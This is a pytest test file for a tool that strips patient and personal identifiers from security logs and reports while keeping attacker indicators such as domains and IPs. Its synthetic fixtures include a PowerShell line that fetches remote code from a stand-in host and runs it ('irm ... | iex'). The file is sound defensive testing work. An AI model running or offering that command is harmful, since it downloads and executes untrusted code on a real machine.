"""A field is a name and a value, in whatever layout the two stand."""

from __future__ import annotations

import pytest

from wardline.screen import keys, screen
from wardline.screen.profile import Profile


def shown(text: str) -> str:
    return screen(text).text


@pytest.mark.parametrize(
    ("name", "label"),
    [
        ("mfgSerialNo", "DEVICE_SERIAL"),
        ("Unit S/N", "DEVICE_SERIAL"),
        ("rendering_npi_number", "LICENSE"),
        ("State Lic", "LICENSE"),
        ("HicNbr", "PLAN_ID"),
        ("enrollee_ident", "PLAN_ID"),
        ("localPatientIdentifier", "MRN"),
        ("EmrId", "MRN"),
        ("Birth Dte", "DOB"),
        ("DtOfSvc", "CARE_DATE"),
        ("date_seen", "CARE_DATE"),
        ("TargetUserName", "USER"),
        ("Target Account", "USER"),
        ("Statement Acct", "ACCOUNT"),
        ("soc sec", "SSN"),
        ("WifiMac", "MAC"),
        ("paciente nombre", "NAME"),
        ("fechaNacimiento", "DOB"),
    ],
)
def test_a_field_is_read_by_the_words_of_its_name(name: str, label: str) -> None:
    assert keys.label_of(name) == label


@pytest.mark.parametrize(
    "name",
    [
        "app version",
        "device_type",
        "hash value",
        "remote address",
        "SessionId Length",
        "user count",
        "policy rule id",
        "account type",
        "license edition",
        "tactic id",
        "request id",
        "threat name",
    ],
)
def test_a_field_of_a_system_says_nothing_of_a_person(name: str) -> None:
    assert keys.label_of(name) is None


@pytest.mark.parametrize(
    "text",
    [
        "[localPatientIdentifier QK-4471902] [packageVersion 5.33.4]",
        "Local Patient Id ............. QK-4471902\nEngine ............. 4.1",
        "array(\n  'local patient id' => 'QK-4471902',\n)",
        "<tr><th>Local Patient Id</th><td>QK-4471902</td></tr>",
        '<entry key="localPatientId">QK-4471902</entry>',
        "INSERT INTO stage (id, note, local_patient_id) VALUES (7, 'it''s', 'QK-4471902');",
        (
            "ENGINE  LOCAL_PATIENT_ID   BUILD\n------  -----------------  -----\n"
            "4.1     QK-4471902         77\n"
        ),
        "Engine      Local Patient Id   Birth Date\n4.1         QK-4471902         1961-02-03\n",
        "Local Patient\n    No.\n    QK-4471902\n",
    ],
)
def test_a_value_goes_in_every_layout(text: str) -> None:
    assert "QK-4471902" not in shown(text)


def test_rows_of_a_statement_go_by_their_columns() -> None:
    text = (
        "INSERT INTO t (host_ip, admit_dt, lic_number) VALUES\n"
        "('203.0.113.9', '2021-03-04', '83.114207'),\n('203.0.113.8', '2022-05-06', 'PA90417');"
    )
    out = shown(text)
    assert "203.0.113.9" in out
    assert "203.0.113.8" in out
    for value in ("2021-03-04", "2022-05-06", "83.114207", "PA90417"):
        assert value not in out


def test_what_is_typed_under_a_table_is_no_row_of_it() -> None:
    text = (
        "PAT_NAME        MRN\n--------        ---------\nOKAFOR, ADA     44-81-20-19\n"
        "PS> irm https://203.0.113.77/stage.aspx | iex\n"
    )
    out = shown(text)
    assert "44-81-20-19" not in out
    assert "https://203.0.113.77/stage.aspx" in out


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("Lateral movement reached QUONNB-SURG3-4403 at noon.", "QUONNB-SURG3-4403"),
        ("next into vm-mirthif-48 and out", "vm-mirthif-48"),
        ("Traffic ended at adfs3.quonvalley.net there.", "adfs3.quonvalley.net"),
        ("Traffic ended at web4.prod.quonvalley.com there.", "web4.prod.quonvalley.com"),
        ("pbello:x:1004:1004:Paz:/srv/home:/bin/bash", "pbello"),
        ("pbello   pts/3        203.0.113.4", "pbello"),
        ("Auth: (8812) Login OK: [pbello] (from client nac7)", "pbello"),
        ('{"actor":{"id":"pbello","type":"x"}}', "pbello"),
        ("Failed to connect to 203.0.113.4 as pbello", "pbello"),
        ("her mobile +1.650.555.0137.", "650.555.0137"),
        ("Telephone 304 - 555 - 0129 ( x ) please return", "304 - 555 - 0129"),
        ("A sedan, license tag QK75 TFZ, blocked it.", "QK75 TFZ"),
        ("D.O.B. 08 / 19 / 1943", "08 / 19 / 1943"),
        ("license 39.536994, home", "39.536994"),
    ],
)
def test_a_value_goes_where_logs_and_notes_write_it(text: str, value: str) -> None:
    assert value not in shown(text)


@pytest.mark.parametrize(
    "text",
    [
        "It runs WINDOWS2019 and firmware 1.650.984.6537.",
        "They wrote to helpdesk[@]quon-login.example, contact alerts[@]quon-pay.icu.",
        "Beacons to cdn4.quon-mail.xyz and mail.quon.top were seen.",
    ],
)
def test_what_defenders_need_stays(text: str) -> None:
    assert shown(text) == text


@pytest.mark.parametrize(
    ("text", "values"),
    [
        # each line of leaders, not every second one
        ("Service Tag ______ EJ4795-4357\nBoard License ____ PA91233\nAdmitted ...... 12/18/2020",
         ("EJ4795-4357", "PA91233", "12/18/2020")),
        # a head of columns right under another line
        ("sample of a leak\nname;birth;social\nARJA SAMPLE;07NOV1953;891909822", ("07NOV1953",)),
        # numbers in groups
        ("policy_no = M416 722 454", ("416", "722", "454")),
        ("Fin: 653 889 366", ("653", "889", "366")),
        ("Insurance id M231 927 751, called", ("231", "927", "751")),
        # a query's answer
        ("select mrn, last_name, dob from person limit 1;\n P487990 | Sample | 1944-08-28\n",
         ("P487990", "Sample", "1944-08-28")),
        # the number right behind a name
        ("sending SAMPLE^CHARLENE, id 8412-2990, failed", ("8412-2990",)),
        ("plate 8YH-X224", ("8YH", "X224")),
        ("Iris scan record WT530Fg96fA1kIs4ltKY", ("WT530Fg96fA1kIs4ltKY",)),
        ("Rang the ward at (404)-501-9286.", ("501-9286",)),
        ("FACSIMILE to the desk at 1.823.505.9772", ("505.9772",)),
        ("[Product Cisco 8841] [SrcIp 172.29.19.27]", ("172.29.19.27",)),
        ("[r.sample@prd-cohes ~]$ id", ("r.sample", "prd-cohes")),
        ("Unit DPOT9U8PDIM7 of the pump", ("DPOT9U8PDIM7",)),
    ],
)  # fmt: skip
def test_a_private_value_goes_however_it_is_set_down(text: str, values: tuple[str, ...]) -> None:
    left = shown(text)
    assert not [value for value in values if value in left]


@pytest.mark.parametrize(
    "text",
    [
        "Privacy alert SOC-6388 was closed.",
        "Dropped a file (Handbook.wsf) there.",
        "Comments go to 1-866-653-4261.",
        "link/ether brd ff:ff:ff:ff:ff:ff",
        "The firmware is version 1.823.505.9772.",
        "callback evil.example.ru, seen 18 January 2023, patients are safe",
    ],
)
def test_what_only_looks_private_stays(text: str) -> None:
    assert shown(text) == text


def test_a_patients_page_goes_whole_and_an_attackers_stays() -> None:
    own = Profile.from_mapping({"domains": ["mitiroha.example.org"]})
    page = "https://www.mitiroha.example.org/portal/msg?patient=4105374&k=wike"
    assert screen(f"It fetched {page}, twice.", own).text == "It fetched [PATIENT_URL-1], twice."
